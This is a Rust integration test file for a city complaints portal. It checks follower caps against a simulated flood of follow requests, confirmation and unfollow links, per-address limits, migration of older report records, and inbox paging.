const PUBLIC: &str = "https://portal.test-city.example";

/// A portal with complaints that mails through a loopback SMTP server and
/// knows its public address, its categories set up by a manager (`hana`,
/// logged in).
async fn portal_with_links() -> (SmtpSink, TestPortal, Browser) {
    let smtp = SmtpSink::start(0).await;
    let portal = TestPortal::builder()
        .module("complaints")
        .smtp(&smtp.url())
        .web(|c| c.public_url = Some(PUBLIC.into()))
        .build()
        .await;
    let manager = portal.user("hana", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&manager, TEST_CITY, "complaints.manager")
        .await;
    let staff = Browser::new(portal.serve().await);
    assert_eq!(staff.log_in("hana", PASSWORD).await.status, 303);
    set_up_categories(&staff).await;
    (smtp, portal, staff)
}

/// Sends every message that is due (the sender takes a batch at a time).
async fn send_all(portal: &TestPortal) {
    while portal.send_notifications(&at_once()).await > 0 {}
}

/// The path of the link to `/{kind}/…` in a message (below the portal's
/// public address when it has one), as a browser on loopback opens it.
fn link_in(text: &str, kind: &str) -> String {
    let start = format!("/o/{TEST_CITY}{BASE}/{kind}/");
    let at = text
        .find(&start)
        .unwrap_or_else(|| panic!("no link to /{kind}/ in: {text}"));
    text[at..].split_whitespace().next().unwrap().to_owned()
}

/// The `n`th of many different e-mail addresses, each as long as an
/// address may be (254 characters, the longest a mail server takes).
fn long_address(n: usize) -> String {
    let address = format!(
        "{n:0>64}@{}.{}.{}.example",
        "a".repeat(63),
        "b".repeat(63),
        "c".repeat(53)
    );
    assert_eq!(address.len(), 254);
    address
}

/// Files a pothole report as an anonymous citizen; its id.
async fn file_pothole(citizen: &Browser, description: &str, email: &str) -> String {
    id_in(
        &post(
            citizen,
            "/report?category=pothole",
            "/report",
            &[
                ("category", "pothole"),
                ("description", description),
                ("address", "Husova 12"),
                ("attribute[depth]", "deep"),
                ("email", email),
            ],
        )
        .await,
        "/reports",
    )
}

/// Records a public step on report `id` as the handler.
async fn public_step(staff: &Browser, id: &str, status: &str, note: &str) -> Page {
    post(
        staff,
        &format!("/handle/{id}"),
        &format!("/handle/{id}"),
        &[
            ("op", "step"),
            ("status", status),
            ("handler", "hana"),
            ("note", note),
            ("visibility", "public"),
        ],
    )
    .await
}

/// Who got a message with `subject`, sorted.
fn mailed(smtp: &SmtpSink, subject: &str) -> Vec<String> {
    let mut to: Vec<String> = smtp
        .received()
        .into_iter()
        .filter(|m| m.subject() == subject)
        .flat_map(|m| m.to)
        .collect();
    to.sort();
    to
}

/// Opens a link from a message and presses its button, as a person does.
async fn press(browser: &Browser, link: &str) -> Page {
    browser.submit(link, link, &[]).await
}

#[tokio::test]
async fn a_flood_of_follow_requests_neither_freezes_a_report_nor_mails_strangers() {
    let (smtp, portal, staff) = portal_with_links().await;
    let addr = staff.addr();
    let citizen = Browser::new(addr);
    let first = file_pothole(
        &citizen,
        "A deep hole in front of number 12.",
        "jana@example.cz",
    )
    .await;
    let number = portal_number(&citizen.get(&format!("{BASE}/reports/{first}")).await.body);

    // An attacker asks 253 times in a row to follow the report, each time
    // with another address as long as addresses go.
    let attacker = Browser::new(addr);
    let csrf = attacker
        .get(&format!("{BASE}/reports/{first}"))
        .await
        .csrf();
    let (mut accepted, mut refused) = (0, 0);
    for n in 0..253 {
        let answer = attacker
            .post_form(
                &format!("{BASE}/reports/{first}"),
                &[("_csrf", csrf.as_str()), ("email", &long_address(n))],
            )
            .await;
        if answer.status == 303 {
            accepted += 1;
        } else {
            answer.assert_refused(&["This report has as many followers as it can have (100)"]);
            refused += 1;
        }
    }
    // The reporter is the first of the 100 a report may have.
    assert_eq!((accepted, refused), (99, 154));
    // A Czech visitor is refused in Czech, at the field.
    let body =
        serde_urlencoded::to_string([("_csrf", csrf.as_str()), ("email", "soused@example.cz")])
            .unwrap();
    let czech = attacker
        .send(
            "POST",
            &format!("{BASE}/reports/{first}"),
            &[("accept", "text/html"), ("accept-language", "cs")],
            Some((body, "application/x-www-form-urlencoded")),
        )
        .await;
    czech.assert_refused(&["Toto hlášení už má nejvíce sledujících, kolik může mít (100)"]);

    // The report is not frozen: the handler records a public step.
    let step = public_step(
        &staff,
        &first,
        "acknowledged",
        "A crew will come this week.",
    )
    .await;
    assert_eq!(step.status, 303, "{}", step.body);
    send_all(&portal).await;
    // Only the reporter hears of it; each stranger got one request to
    // confirm, and nothing else.
    assert_eq!(
        mailed(&smtp, &format!("Report {number}: Acknowledged")),
        ["jana@example.cz"]
    );
    let confirm_subject = format!("Confirm that you follow report {number}");
    let mut asked = mailed(&smtp, &confirm_subject);
    let mut expected: Vec<String> = (0..99).map(long_address).collect();
    expected.sort();
    asked.sort();
    assert_eq!(asked, expected);
    assert_eq!(
        smtp.received().len(),
        1 + 99 + 1,
        "receipt, requests, update"
    );

    // A stranger who does want to follow confirms, once.
    let request = smtp
        .received()
        .into_iter()
        .find(|m| m.to == [long_address(7)])
        .unwrap();
    assert!(
        request
            .text()
            .contains(&format!("{PUBLIC}/o/{TEST_CITY}{BASE}/follow/")),
        "{}",
        request.text()
    );
    let confirm = link_in(&request.text(), "follow");
    let stranger = Browser::new(addr);
    let page = stranger.get(&confirm).await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains(&number), "{}", page.body);
    let confirmed = press(&stranger, &confirm).await;
    assert_eq!(confirmed.status, 303, "{}", confirmed.body);
    assert!(
        confirmed
            .location()
            .contains(&format!("{BASE}/reports/{first}?")),
        "{}",
        confirmed.location()
    );
    let again = stranger.get(&confirm).await;
    assert_eq!(again.status, 404, "{}", again.body);
    assert!(
        again.body.contains("This link was used already"),
        "{}",
        again.body
    );
    // The next public step reaches the reporter and the one who confirmed.
    let step = public_step(&staff, &first, "in-progress", "The crew is there.").await;
    assert_eq!(step.status, 303, "{}", step.body);
    send_all(&portal).await;
    let progress = format!("Report {number}: In progress");
    let mut both = vec!["jana@example.cz".to_owned(), long_address(7)];
    both.sort();
    assert_eq!(mailed(&smtp, &progress), both);
    // Every update carries a link to stop them; it works for its follower.
    let update = smtp
        .received()
        .into_iter()
        .find(|m| m.subject() == progress && m.to == [long_address(7)])
        .unwrap();
    assert!(
        update.text().contains("The crew is there."),
        "{}",
        update.text()
    );
    let stop = link_in(&update.text(), "unfollow");
    let stopped = press(&stranger, &stop).await;
    assert_eq!(stopped.status, 303, "{}", stopped.body);
    assert_eq!(stranger.get(&stop).await.status, 404);

    // A second report, for the limits of one address.
    let second = file_pothole(&citizen, "Another hole by the school.", "").await;
    let neighbour = Browser::new(addr);
    let follow = |id: String| {
        let neighbour = &neighbour;
        async move {
            post(
                neighbour,
                &format!("/reports/{id}"),
                &format!("/reports/{id}"),
                &[("email", "soused@example.cz")],
            )
            .await
        }
    };
    assert_eq!(follow(second.clone()).await.status, 303);
    send_all(&portal).await;
    // Asking again within the hour sends nothing more.
    follow(second.clone())
        .await
        .assert_refused(&["We sent a link to confirm to this address less than an hour ago"]);
    portal.clock().advance(Duration::from_secs(61 * 60));
    assert_eq!(follow(second.clone()).await.status, 303);
    send_all(&portal).await;
    let requests: Vec<String> = smtp
        .received()
        .into_iter()
        .filter(|m| m.to == ["soused@example.cz"])
        .map(|m| m.text())
        .collect();
    assert_eq!(requests.len(), 2, "{requests:?}");
    // Only the newest link confirms.
    assert_eq!(
        neighbour.get(&link_in(&requests[0], "follow")).await.status,
        404
    );
    assert_eq!(
        press(&neighbour, &link_in(&requests[1], "follow"))
            .await
            .status,
        303
    );
    // One address follows at most 20 reports.
    for n in 2..=20 {
        let id = file_pothole(&citizen, &format!("Hole number {n}."), "").await;
        assert_eq!(follow(id).await.status, 303, "report {n}");
    }
    let twenty_first = file_pothole(&citizen, "Hole number 21.", "").await;
    follow(twenty_first)
        .await
        .assert_refused(&["This address follows 20 reports already, the most one address may"]);

    // A day on, requests nobody confirmed have lapsed: their links no
    // longer work, and the flooded report takes followers again.
    portal.clock().advance(Duration::from_secs(25 * 3600));
    let lapsed = smtp
        .received()
        .into_iter()
        .find(|m| m.to == [long_address(8)])
        .unwrap();
    assert_eq!(
        stranger
            .get(&link_in(&lapsed.text(), "follow"))
            .await
            .status,
        404
    );
    let other = Browser::new(addr);
    let taken = post(
        &other,
        &format!("/reports/{first}"),
        &format!("/reports/{first}"),
        &[("email", "dalsi@example.cz")],
    )
    .await;
    assert_eq!(taken.status, 303, "{}", taken.body);
}

/// A report as the first version stored it, followers and steps inside.
fn earlier_report(number: &str, followers: &[String]) -> String {
    serde_json::json!({
        "number": number,
        "category": "pothole",
        "description": "A hole reported before followers were confirmed.",
        "address": "Masarykova 1",
        "attributes": [["depth", "deep"]],
        "contact": { "name": "Jana Nováková", "email": "jana@example.cz", "phone": "" },
        "source": "portal",
        "status": "acknowledged",
        "unit": "Roads department",
        "handler": "hana",
        "requested": "2026-01-05T08:00:00Z",
        "updated": "2026-01-06T09:00:00Z",
        "deadline": "2099-02-04",
        "subscribers": followers,
        "updates": [
            { "at": "2026-01-06T09:00:00Z", "status": "acknowledged", "text": "Seen by the roads department.", "public": true, "by": "hana" },
            { "at": "2026-01-06T09:05:00Z", "status": "acknowledged", "text": "Ask the contractor.", "public": false, "by": "hana" }
        ]
    })
    .to_string()
}

/// The id of the report numbered `number`, from the handler's inbox.
async fn id_of(staff: &Browser, number: &str) -> String {
    let inbox = staff.get(&format!("{BASE}/handle?status=all")).await;
    let at = inbox
        .body
        .find(&format!(">{number}<"))
        .unwrap_or_else(|| panic!("{number} not in the inbox: {}", inbox.body));
    let link = &inbox.body[..at];
    let start = link.rfind(&format!("{BASE}/handle/")).unwrap() + BASE.len() + "/handle/".len();
    link[start..link[start..].find('"').unwrap() + start].to_owned()
}

#[tokio::test]
async fn reports_stored_with_followers_inside_keep_their_steps_and_never_freeze() {
    let (smtp, portal, staff) = portal_with_links().await;
    let addr = staff.addr();
    // A report the first version filled to the brim: 252 followers nobody
    // confirmed, besides its reporter.
    let mut followers = vec!["jana@example.cz".to_owned()];
    followers.extend((0..252).map(long_address));
    let full = earlier_report("2026-0AAAAA", &followers);
    assert!(
        full.len() > 64_500 && full.len() <= 65_536,
        "{}",
        full.len()
    );
    portal
        .import(TEST_CITY, "complaints", "reports", &full)
        .await;
    let id = id_of(&staff, "2026-0AAAAA").await;

    // Its steps read as before: the public one in public, both for staff.
    let public = Browser::new(addr)
        .get(&format!("{BASE}/reports/{id}"))
        .await;
    assert!(
        public.body.contains("Seen by the roads department.")
            && !public.body.contains("Ask the contractor."),
        "{}",
        public.body
    );
    let handling = staff.get(&format!("{BASE}/handle/{id}")).await;
    assert!(
        handling.body.contains("Seen by the roads department.")
            && handling.body.contains("Ask the contractor."),
        "{}",
        handling.body
    );

    // The handler records a public step on the full report.
    let step = public_step(&staff, &id, "in-progress", "The crew is there.").await;
    assert_eq!(step.status, 303, "{}", step.body);
    send_all(&portal).await;
    // The reporter hears of it (in Czech: the first version did not keep
    // anybody's language); of the followers nobody confirmed, as many as a
    // report may have are asked once to confirm, and told nothing else.
    assert_eq!(
        mailed(&smtp, "Hlášení 2026-0AAAAA: Řeší se"),
        ["jana@example.cz"]
    );
    // Nobody knows their language: they are asked in Czech.
    let asked = mailed(&smtp, "Potvrďte, že sledujete hlášení 2026-0AAAAA");
    assert_eq!(asked.len(), 99, "{asked:?}");
    assert!(!asked.contains(&"jana@example.cz".to_owned()));
    assert_eq!(smtp.received().len(), 1 + 99);
    // The history reads in order, the new step last.
    let handling = staff.get(&format!("{BASE}/handle/{id}")).await;
    let (seen, crew) = (
        handling.body.find("Seen by the roads department.").unwrap(),
        handling.body.find("The crew is there.").unwrap(),
    );
    assert!(seen < crew, "{}", handling.body);
    // A second step fits too, and the report keeps nobody's address but
    // its reporter's.
    let step = public_step(&staff, &id, "resolved", "The hole is filled.").await;
    assert_eq!(step.status, 303, "{}", step.body);
    let stored = portal_records(&portal).await;
    assert!(
        stored[0].len() < 4_000 && !stored[0].contains(&long_address(0)),
        "{}",
        stored[0]
    );

    // An upgrade moves what an earlier version kept inside every report.
    let few = vec!["jana@example.cz".to_owned(), "soused@example.cz".to_owned()];
    portal
        .import(
            TEST_CITY,
            "complaints",
            "reports",
            &earlier_report("2026-0BBBBB", &few),
        )
        .await;
    let ctx = CallContext {
        org_id: TEST_CITY.into(),
        principal: None,
        request_id: "test-upgrade".into(),
        locale: "cs".into(),
    };
    portal
        .module("complaints")
        .migrate(&ctx, "0.1.0", portal.state.services.clone())
        .await
        .expect("the migration runs");
    for doc in portal_records(&portal).await {
        assert!(
            !doc.contains("\"subscribers\"") && !doc.contains("\"updates\""),
            "{doc}"
        );
    }
    let other = id_of(&staff, "2026-0BBBBB").await;
    let public = Browser::new(addr)
        .get(&format!("{BASE}/reports/{other}"))
        .await;
    assert!(
        public.body.contains("Seen by the roads department."),
        "{}",
        public.body
    );
    send_all(&portal).await;
    assert_eq!(
        mailed(&smtp, "Potvrďte, že sledujete hlášení 2026-0BBBBB"),
        ["soused@example.cz"]
    );
}

/// A report numbered `number` handled by `handler`, as an import stores it.
fn handled_report(number: &str, handler: &str) -> String {
    let mut report: serde_json::Value = serde_json::from_str(&earlier_report(number, &[])).unwrap();
    report["handler"] = handler.into();
    report["number"] = number.into();
    report.to_string()
}

/// The report numbers on a page of the handler's inbox, and its "next" link.
fn inbox_page(page: &Page) -> (Vec<String>, Option<String>) {
    let numbers = page
        .body
        .split(">KP-")
        .skip(1)
        .filter_map(|rest| rest.split_once('<').map(|(n, _)| format!("KP-{n}")))
        .collect();
    let next = page
        .body
        .split_once("rel=\"next\" href=\"")
        .map(|(_, rest)| rest.split_once('"').unwrap().0.replace("&amp;", "&"));
    (numbers, next)
}

#[tokio::test]
async fn a_handler_pages_through_an_inbox_longer_than_a_page_that_shows_only_their_reports() {
    let (_smtp, portal, staff) = portal_with_manager().await;
    // 120 reports, every other one Hana's: her 60 fill more than a page.
    let lines: Vec<String> = (0..120)
        .map(|i| {
            let handler = if i % 2 == 0 { "hana" } else { "petr" };
            handled_report(&format!("KP-{i:04}"), handler)
        })
        .collect();
    portal
        .import(TEST_CITY, "complaints", "reports", &lines.join("\n"))
        .await;
    let hers: std::collections::BTreeSet<String> =
        (0..120).step_by(2).map(|i| format!("KP-{i:04}")).collect();

    let first = staff
        .get(&format!("{BASE}/handle?status=all&handler=hana"))
        .await;
    assert_eq!(first.status, 200, "{}", first.body);
    let (on_first, next) = inbox_page(&first);
    assert_eq!(on_first.len(), 50, "a full page: {on_first:?}");
    let next = next.unwrap_or_else(|| panic!("a link to the next page: {}", first.body));
    assert!(next.contains("handler=hana"), "{next}");

    let next = if next.starts_with(BASE) {
        next
    } else {
        format!("{BASE}{next}")
    };
    let second = staff.get(&next).await;
    assert_eq!(second.status, 200, "{}", second.body);
    let (on_second, after) = inbox_page(&second);
    assert_eq!(after, None, "the last page links nowhere on");
    let seen: std::collections::BTreeSet<String> =
        on_first.iter().chain(&on_second).cloned().collect();
    assert_eq!(
        seen, hers,
        "every one of Hana's reports once, and no one else's"
    );
    assert_eq!(on_first.len() + on_second.len(), hers.len());
}
